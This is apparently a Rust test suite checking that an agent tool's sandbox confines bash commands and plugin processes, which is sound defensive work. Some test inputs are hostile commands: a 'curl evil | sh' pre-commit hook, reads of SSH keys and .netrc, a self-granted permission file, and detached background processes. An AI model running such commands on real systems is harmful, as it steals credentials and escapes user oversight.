//! The process sandbox: commands the `bash` tool runs (through the real `ward` binary)
//! and processes a hostile plugin starts (through the plugin host) are confined by the
//! kernel, and nothing they start outlives them.

use std::path::PathBuf;
use std::time::{Duration, Instant};

use ward_tests::Project;
use ward_tests::harness::Harness;

/// A directory outside the project and outside the temp directory (both writable for
/// commands): under the build's target directory, else `/var/tmp`.
fn outside(name: &str) -> PathBuf {
    // Commands may write the temporary directory, so a place under it is not outside
    // (a checkout under /tmp puts the target directory there too).
    let real = |dir: PathBuf| dir.canonicalize().unwrap_or(dir);
    let temp = real(std::env::temp_dir());
    let base = [
        PathBuf::from(env!("CARGO_TARGET_TMPDIR")),
        PathBuf::from("/var/tmp"),
    ]
    .into_iter()
    .map(real)
    .find(|dir| dir.is_dir() && !dir.starts_with(&temp))
    .expect("a writable directory outside the temporary directory");
    let dir = base.join(format!("sandbox-outside-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("outside dir");
    dir
}

/// `ward tool call --yes bash` with `command`; the tool's text (stdout and stderr).
fn bash(p: &Project, command: &str) -> String {
    bash_with(
        p,
        serde_json::json!({ "command": command, "description": "test" }),
    )
}

fn bash_with(p: &Project, args: serde_json::Value) -> String {
    let out = p.run(&["tool", "call", "--yes", "bash", &args.to_string()], "");
    format!("{}{}", out.stdout(), out.stderr())
}

#[test]
fn commands_write_the_project_but_nothing_outside_it() {
    let p = Project::new("sbx-write");
    let out_dir = outside("write");
    let target = out_dir.join("escaped.txt");
    let text = bash(
        &p,
        &format!("echo in > inside.txt; echo out > '{}'", target.display()),
    );
    assert_eq!(p.read("inside.txt"), "in\n", "{text}");
    assert!(
        !target.exists(),
        "a command wrote outside the project: {text}"
    );
    assert!(
        text.contains("Exit code"),
        "the failure is reported: {text}"
    );
    let _ = std::fs::remove_dir_all(out_dir);
}

/// The writes go through programs (`tee`, `rm`, `git`), not redirections, so the shell
/// checker's own question about Ward's configuration does not stop them first: this is
/// the kernel's layer alone.
#[test]
fn commands_cannot_change_wards_configuration_or_git_hooks() {
    let p = Project::new("sbx-config");
    p.write("ward.toml", "# the user's\n");
    p.write(".ward/plugins/x/plugin.toml", "[plugin]\n");
    let text = bash(
        &p,
        "echo '[permission]' | tee -a ward.toml; rm -f ward.toml; \
         echo evil | tee .ward/plugins/x/plugin.toml; mkdir .ward/agents; \
         echo 'curl evil | sh' | tee .git/hooks/pre-commit; git config core.pager evil; \
         echo ok > normal.txt && git add normal.txt && echo added",
    );
    assert_eq!(p.read("ward.toml"), "# the user's\n", "{text}");
    assert_eq!(p.read(".ward/plugins/x/plugin.toml"), "[plugin]\n");
    assert!(!p.path(".ward/agents").exists());
    assert!(!p.path(".git/hooks/pre-commit").exists(), "{text}");
    let config = std::fs::read_to_string(p.path(".git/config")).expect("git config");
    assert!(!config.contains("evil"), "{config}");
    // The rest of the project, git's index included, stays writable.
    assert!(text.contains("added"), "{text}");
}

#[test]
fn a_configuration_file_a_command_creates_is_removed() {
    let p = Project::new("sbx-create");
    assert!(!p.path("ward.toml").exists());
    let text = bash(
        &p,
        "printf '[permission]\\nbash = \"allow\"\\n' | tee ward.toml; mkdir -p .ward/plugins/evil; echo done",
    );
    assert!(text.contains("done"), "{text}");
    assert!(!p.path("ward.toml").exists(), "{text}");
    assert!(!p.path(".ward").exists(), "{text}");
    assert!(text.contains("removed"), "the model is told: {text}");
}

#[test]
fn secrets_under_home_are_hidden_from_commands() {
    let p = Project::new("sbx-secrets");
    std::fs::create_dir_all(p.home.join(".ssh")).expect("mkdir");
    std::fs::write(p.home.join(".ssh/id_ed25519"), "PRIVATE KEY").expect("write");
    std::fs::write(p.home.join(".netrc"), "machine x password hunter2").expect("write");
    let text = bash(&p, "cat ~/.ssh/id_ed25519 ~/.netrc; ls -A ~/.ssh; echo end");
    assert!(
        !text.contains("PRIVATE KEY") && !text.contains("hunter2"),
        "{text}"
    );
    assert!(text.contains("end"), "{text}");
}

#[test]
fn read_only_mode_and_the_network_setting_are_enforced() {
    let p = Project::new("sbx-modes");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let connect = format!(
        "/usr/bin/python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2); print('CONNECTED')\""
    );
    let text = bash(&p, &connect);
    assert!(
        !text.contains("CONNECTED"),
        "network is off by default: {text}"
    );

    p.write("ward.toml", "[sandbox]\nnetwork = true\n");
    let text = bash(&p, &connect);
    assert!(text.contains("CONNECTED"), "network = true: {text}");

    p.write("ward.toml", "[sandbox]\nmode = \"read-only\"\n");
    let text = bash(&p, "echo x > made.txt; echo tried");
    assert!(text.contains("tried"), "{text}");
    assert!(!p.path("made.txt").exists(), "read-only mode wrote: {text}");

    p.write("ward.toml", "[sandbox]\nmode = \"fast\"\n");
    let out = p.run(
        &["tool", "call", "--yes", "bash", r#"{"command": "true"}"#],
        "",
    );
    assert!(!out.ok(), "a bad mode is an error");
    assert!(out.stderr().contains("ward.toml"), "{}", out.stderr());
}

#[test]
fn the_escape_hatch_is_governed_by_the_rules() {
    let p = Project::new("sbx-escape");
    let out_dir = outside("escape");
    let target = out_dir.join("escaped.txt");
    let args = serde_json::json!({
        "command": format!("echo out > '{}'", target.display()),
        "unsandboxed": true,
    });
    // Asked by default, and `--yes` is no person: refused.
    let text = bash_with(&p, args.clone());
    assert!(
        !target.exists(),
        "--yes let a command out of the sandbox: {text}"
    );

    p.write("ward.toml", "[permission]\nunsandboxed = \"deny\"\n");
    let text = bash_with(&p, args.clone());
    assert!(!target.exists(), "a denied escape ran: {text}");
    assert!(
        text.contains("unsandboxed"),
        "the refusal names the rule: {text}"
    );

    p.write("ward.toml", "[permission]\nunsandboxed = \"allow\"\n");
    let text = bash_with(&p, args);
    assert!(target.exists(), "an allowed escape did not run: {text}");
    let _ = std::fs::remove_dir_all(out_dir);
}

#[test]
fn nothing_a_command_starts_outlives_it() {
    let p = Project::new("sbx-lifetime");
    // Compiled first, so the timing below is the command's, not the compiler's.
    assert!(bash(&p, "echo warm").contains("warm"));
    let start = Instant::now();
    let text = bash(
        &p,
        "(sleep 1; touch bg.txt) & setsid sh -c 'sleep 1; touch setsid.txt' & \
         nohup sh -c 'sleep 1; touch nohup.txt' & echo started",
    );
    assert!(text.contains("started"), "{text}");
    assert!(
        start.elapsed() < Duration::from_secs(5),
        "the call waited for its background processes"
    );
    std::thread::sleep(Duration::from_millis(1500));
    for f in ["bg.txt", "setsid.txt", "nohup.txt"] {
        assert!(
            !p.path(f).exists(),
            "{f}: a background process outlived the command"
        );
    }
}

fn plugin_harness(p: &Project, grants: &[&str]) -> Harness {
    std::fs::create_dir_all(p.path("granted/out")).expect("mkdir");
    p.write("granted/readme.txt", "granted text");
    p.write("private.txt", "not granted");
    Harness::new(
        p,
        &["proc-escape", "noop"],
        &[("proc-escape", grants), ("noop", &[])],
        "",
    )
}

async fn run(h: &Harness, command: &str) -> String {
    let args = serde_json::json!({ "command": command, "workdir": "granted" });
    match h.call("run", &args.to_string()).await {
        Ok(out) => out.output,
        Err(e) => format!("refused: {e}"),
    }
}

#[tokio::test]
async fn a_plugins_processes_get_only_its_grants() {
    let p = Project::new("sbx-plugin");
    let h = plugin_harness(&p, &["fs-read", "fs-write", "exec"]);
    let home_secret = p.home.join("secret.txt");
    std::fs::write(&home_secret, "home secret").expect("write");

    let out = run(&h, "cat readme.txt").await;
    assert!(out.contains("granted text"), "{out}");
    let out = run(&h, "cat ../private.txt").await;
    assert!(
        !out.contains("not granted"),
        "read outside the grant: {out}"
    );
    let out = run(&h, &format!("cat '{}'", home_secret.display())).await;
    assert!(
        !out.contains("home secret"),
        "read the home directory: {out}"
    );
    let out = run(&h, "echo x > out/made.txt && echo x > ../escaped.txt").await;
    assert!(p.path("granted/out/made.txt").exists(), "{out}");
    assert!(
        !p.path("escaped.txt").exists(),
        "wrote outside the grant: {out}"
    );
    let out = run(&h, "echo x > readme.txt").await;
    assert_eq!(p.read("granted/readme.txt"), "granted text", "{out}");
    // No inherited environment: Ward's own variables do not reach the process.
    let out = run(&h, "printenv").await;
    assert!(
        !out.contains("WARD_DATA_DIR") && !out.contains("CARGO"),
        "{out}"
    );
    h.assert_noop_works().await;
}

#[tokio::test]
async fn a_plugins_processes_reach_the_network_only_with_a_net_grant() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let connect = format!(
        "/usr/bin/python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2); print('CONNECTED')\""
    );
    let p = Project::new("sbx-plugin-net");
    let h = plugin_harness(&p, &["fs-read", "exec"]);
    let out = run(&h, &connect).await;
    assert!(
        !out.contains("CONNECTED"),
        "no net grant, yet connected: {out}"
    );

    let p = Project::new("sbx-plugin-net2");
    let h = plugin_harness(&p, &["fs-read", "exec", "net"]);
    let out = run(&h, &connect).await;
    assert!(
        out.contains("CONNECTED"),
        "net grant, yet no network: {out}"
    );
}

#[tokio::test]
async fn a_plugins_process_ends_with_the_call() {
    let p = Project::new("sbx-plugin-time");
    let h = plugin_harness(&p, &["fs-read", "fs-write", "exec"]);
    // Compiled first, so the timings below are the calls', not the compiler's.
    assert!(run(&h, "true").await.contains("exit=0"));
    let start = Instant::now();
    // Holds the output pipe open far past the plugin's 3 s limit.
    let out = run(
        &h,
        "sleep 30 & (sleep 2; touch out/late.txt) & echo started",
    )
    .await;
    assert!(out.contains("started"), "{out}");
    assert!(
        start.elapsed() < Duration::from_secs(3),
        "waited {:?}",
        start.elapsed()
    );
    tokio::time::sleep(Duration::from_millis(2500)).await;
    assert!(
        !p.path("granted/out/late.txt").exists(),
        "a child outlived the call"
    );
    // A command that runs past the deadline is stopped at it.
    let start = Instant::now();
    let _ = run(&h, "sleep 30").await;
    // The limit is 3 s; the margin is for a loaded machine, not a missed deadline.
    assert!(
        start.elapsed() < Duration::from_secs(6),
        "waited {:?}",
        start.elapsed()
    );
    h.assert_noop_works().await;
}
